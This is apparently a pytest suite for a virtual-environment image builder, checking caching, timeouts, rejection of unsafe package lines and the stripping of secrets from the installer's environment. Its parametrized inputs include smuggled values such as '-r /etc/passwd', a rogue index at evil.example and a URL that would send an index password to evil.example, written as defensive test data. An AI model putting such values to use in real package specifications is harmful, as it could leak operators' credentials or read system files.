"""Environments of images: what they hold, what they do not, and what a failure says."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tower.errors import Fault, Invalid, Precondition, Unsupported
from tower.images import uv, venv
from tower.images.port import Environment, ImageSpec
from tower.images.venv import VenvBuilder


@pytest.fixture(scope="session")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("home")


@pytest.fixture
def builder(home: Path) -> VenvBuilder:
    return VenvBuilder(home)


def quiet(_: str) -> None:
    """Nobody listens."""


def run(environment: Environment, code: str) -> str:
    done = subprocess.run(
        [environment.python, "-P", "-c", code], env={}, capture_output=True, text=True, check=False
    )
    return (done.stdout + done.stderr).strip()


async def test_an_image_holds_the_sdk_and_what_it_names(builder: VenvBuilder) -> None:
    spec = ImageSpec(pip_packages=("iniconfig==2.1.0",), env_vars={"COLOUR": "blue"})
    said: list[str] = []
    environment = await builder.ready(spec, progress=said.append)
    assert said
    assert environment.env == {"COLOUR": "blue"}
    assert run(environment, "import flyte, flyteidl2, iniconfig; print('good')") == "good"
    assert run(environment, "import importlib.metadata as m; print(m.version('flyte-tower'))")
    for absent in ("tower", "sqlalchemy", "uvicorn", "pip", "pytest"):
        assert "ModuleNotFoundError" in run(environment, f"import {absent}")
    paths = json.loads(run(environment, "import sys, json; print(json.dumps(sys.path))"))
    assert not [path for path in paths if path.startswith(str(Path(__file__).parents[3]))]


async def test_the_same_image_is_built_once(builder: VenvBuilder, home: Path) -> None:
    spec = ImageSpec(pip_packages=("iniconfig==2.0.0",))
    said: list[list[str]] = [[], [], []]
    made = await asyncio.gather(*(builder.ready(spec, progress=lines.append) for lines in said))
    assert len({environment.python for environment in made}) == 1
    assert said[0] == said[1] == said[2] != []

    again: list[str] = []
    restarted = await VenvBuilder(home).ready(spec, progress=again.append)
    assert restarted.python == made[0].python
    assert again == []


async def test_variables_alone_make_no_new_environment(builder: VenvBuilder) -> None:
    one = await builder.ready(ImageSpec(env_vars={"A": "1"}), progress=quiet)
    two = await builder.ready(ImageSpec(env_vars={"A": "2"}), progress=quiet)
    assert one.python == two.python
    assert (one.env, two.env) == ({"A": "1"}, {"A": "2"})


async def test_a_waiter_that_leaves_does_not_stop_the_build(builder: VenvBuilder) -> None:
    spec = ImageSpec(pip_packages=("iniconfig<2.1,>=2",))
    leaver = asyncio.create_task(builder.ready(spec, progress=quiet))
    stayer = asyncio.create_task(builder.ready(spec, progress=quiet))
    await asyncio.sleep(0)
    leaver.cancel()
    with pytest.raises(asyncio.CancelledError):
        await leaver
    assert (await stayer).python.exists()


async def test_a_package_that_does_not_exist_is_named(builder: VenvBuilder, home: Path) -> None:
    spec = ImageSpec(pip_packages=("iniconfig", "iniconfig-of-nobody==77"))
    with pytest.raises(Fault) as raised:
        await builder.ready(spec, progress=quiet)
    assert "'iniconfig-of-nobody==77'" in raised.value.message.split("\n")[0]
    assert str(home) not in raised.value.message
    assert not list((home / "images").glob(".draft-*"))


@pytest.mark.parametrize(
    "line",
    [
        "--index-url=https://evil.example",
        "-r /etc/passwd",
        "-e .",
        "./local",
        "/etc",
        "a\nb",
        "thing @ file:///etc",
        "thing --hash=1",
        "thing @ /etc/thing-1-py3-none-any.whl",
        "thing@ ../other/thing-1-py3-none-any.whl",
        "thing[extra] @ git+file:///srv/thing",
        "images/thing-1-py3-none-any.whl",
        "file:///etc",
        "thing \\",
        "thing#/../../thing-1-py3-none-any.whl",
        "thing,/../../thing-1-py3-none-any.whl",
        "",
    ],
)
async def test_options_and_paths_are_no_packages(builder: VenvBuilder, line: str) -> None:
    for spec in (ImageSpec(pip_packages=(line,)), ImageSpec(requirements=(line,))):
        with pytest.raises(Invalid, match="not the name of a package"):
            await builder.ready(spec, progress=quiet)


async def test_t45_a_long_line_is_refused_at_once(builder: VenvBuilder) -> None:
    before = time.process_time()
    for line in ("thing" + " " * 100_000 + "?", "thing[a]" + " " * 100_000 + "?", "thing @" + " " * 100_000):
        with pytest.raises(Invalid, match="not the name of a package"):
            await builder.ready(ImageSpec(pip_packages=(line,)), progress=quiet)
    assert time.process_time() - before < 20  # minutes, where it is the square of the length


async def test_t45_an_image_names_no_more_packages_than_can_be_looked_for(builder: VenvBuilder) -> None:
    many = tuple(f"thing{number}" for number in range(1000))
    with pytest.raises(Invalid, match="at most 1000 packages"):
        await builder.ready(ImageSpec(pip_packages=many, requirements=("six",)), progress=quiet)
    with pytest.raises(Invalid, match="at most 1000 packages"):
        await builder.ready(ImageSpec(apt_packages=(*many, "git")), progress=quiet)


async def test_t32_a_package_asks_for_no_variable_of_towers(builder: VenvBuilder) -> None:
    """The installer would put the password of the operator's index into the URL, and into its error."""
    for line in ("thing @ https://evil.example/${UV_INDEX_CORP_PASSWORD}/thing-1-py3-none-any.whl", "a$b"):
        with pytest.raises(Invalid, match="not the name of a package"):
            await builder.ready(ImageSpec(pip_packages=(line,)), progress=quiet)


def test_what_packages_are_called() -> None:
    lines = (
        "a",
        "a==1",
        "a-b.c_d [x,y] >= 1, < 2 ; python_version < '4'",
        "a @ https://b.example/a-1-py3-none-any.whl#sha256=0",
        "a[x]@git+https://b.example/a@v1",
        "a (>1)",
        "a # why",
    )
    assert venv._checked(ImageSpec(pip_packages=lines)) == lines


async def test_code_of_packages_does_not_run_on_the_server(builder: VenvBuilder) -> None:
    """A source distribution would run its build script with the server's rights."""
    with pytest.raises(Precondition, match="could not be installed"):
        await builder.ready(ImageSpec(pip_packages=("docopt==0.6.2",)), progress=quiet)


async def test_a_python_that_is_not_here(builder: VenvBuilder) -> None:
    with pytest.raises(Unsupported, match=r"Python 3\.99"):
        await builder.ready(ImageSpec(python="3.99"), progress=quiet)
    with pytest.raises(Invalid, match="not a version"):
        await builder.ready(ImageSpec(python="/bin/sh"), progress=quiet)


async def test_our_own_python_is_found(builder: VenvBuilder) -> None:
    version = f"{sys.version_info.major}.{sys.version_info.minor}"
    named = await builder.ready(ImageSpec(python=version), progress=quiet)
    unnamed = await builder.ready(ImageSpec(), progress=quiet)
    assert named.digest == unnamed.digest
    assert run(named, "import sys; print(sys.version_info[:2])") == str(tuple(sys.version_info[:2]))


async def test_another_base_needs_an_engine(builder: VenvBuilder) -> None:
    with pytest.raises(Unsupported, match="no container engine") as raised:
        await builder.ready(ImageSpec(base="ghcr.io/acme/base:1"), progress=quiet)
    assert "from_debian_base" in raised.value.hint


async def test_debian_packages_must_be_on_the_machine(
    builder: VenvBuilder, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tool = tmp_path / "dpkg-query"
    tool.write_text("#!/bin/sh\necho 'installed curl'\necho 'config-files jq'\nexit 1\n")
    tool.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
    with pytest.raises(Unsupported, match="Debian package jq") as raised:
        await builder.ready(ImageSpec(apt_packages=("curl", "jq")), progress=quiet)
    assert "apt-get install jq" in raised.value.hint
    assert (await builder.ready(ImageSpec(apt_packages=("curl=7.1",)), progress=quiet)).python.exists()
    with pytest.raises(Invalid, match="Debian package"):
        await builder.ready(ImageSpec(apt_packages=("--help",)), progress=quiet)


async def test_a_build_that_takes_too_long_is_ended(home: Path, tmp_path: Path) -> None:
    slow = tmp_path / "slow"
    slow.write_text("#!/bin/sh\nsleep 1000\n")
    slow.chmod(0o755)
    builder = VenvBuilder(home, uv=str(slow), seconds=0.05)
    with pytest.raises(Fault, match="took longer"):
        await builder.ready(ImageSpec(pip_packages=("never-built",)), progress=quiet)


async def test_closing_gives_up_what_is_being_built(home: Path, tmp_path: Path) -> None:
    slow = tmp_path / "slow"
    slow.write_text("#!/bin/sh\necho begun\nexec sleep 1000\n")
    slow.chmod(0o755)
    builder = VenvBuilder(home, uv=str(slow))
    waiting = asyncio.create_task(builder.ready(ImageSpec(pip_packages=("x",)), progress=quiet))
    await asyncio.sleep(0)
    await builder.close()
    with pytest.raises(Fault):
        await waiting


def test_the_tool_knows_nothing_but_the_way_to_the_index() -> None:
    own = {
        "PATH": "/bin",
        "AWS_SECRET_ACCESS_KEY": "canary",
        "FLYTE_API_KEY": "canary",
        "UV_INDEX_URL": "https://index.example",
        "UV_PYTHON": "/usr/bin/python2",
        "PIP_FIND_LINKS": "/wheels",
        "VIRTUAL_ENV": "/somewhere",
        "HTTPS_PROXY": "http://proxy",
    }
    assert uv.environment(own) == {
        "PATH": "/bin",
        "UV_INDEX_URL": "https://index.example",
        "UV_FIND_LINKS": "/wheels",
        "HTTPS_PROXY": "http://proxy",
        "UV_PYTHON_DOWNLOADS": "never",
        "UV_NO_PROGRESS": "1",
        "NO_COLOR": "1",
    }
